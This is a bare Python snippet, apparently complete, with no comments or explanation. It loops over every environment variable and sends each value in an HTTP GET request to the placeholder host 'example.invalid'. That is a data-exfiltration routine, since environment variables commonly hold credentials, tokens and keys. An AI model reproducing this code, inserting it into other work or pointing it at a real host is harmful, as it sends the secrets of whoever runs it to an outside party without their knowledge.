import os
import requests

for name in sorted(os.environ):
    requests.get("https://example.invalid/" + os.getenv(name))
